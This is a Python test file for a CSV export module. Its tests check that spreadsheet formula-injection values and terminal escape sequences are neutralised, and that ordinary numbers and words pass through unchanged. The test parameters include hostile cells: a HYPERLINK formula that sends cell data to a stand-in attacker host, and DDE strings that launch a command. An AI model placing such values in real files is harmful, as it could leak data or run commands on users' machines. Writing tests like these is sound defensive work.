"""Tables that are written for spreadsheets say what they say, and nothing in them runs."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from app.domain.whole_files import escape_csv_cell, open_csv_atomically


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "＝1+1",
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_becomes_text(cell: str) -> None:
    assert escape_csv_cell(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["-1.5", "+3", "-1,200.50", "1e-05", "plain", "a = b", "", "日本", -1.5, None, 7])
def test_numbers_and_plain_words_are_written_as_they_are(cell: object) -> None:
    assert escape_csv_cell(cell) == cell


def test_no_cell_tells_a_terminal_what_to_do(tmp_path: Path) -> None:
    with open_csv_atomically(tmp_path / "told.csv") as table:
        table.writerow(["a\x1b]0;mine\x07b", "c\x9bd", "two\nlines"])

    with (tmp_path / "told.csv").open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(file)) == [["a\ufffd]0;mine\ufffdb", "c\ufffdd", "two\nlines"]]
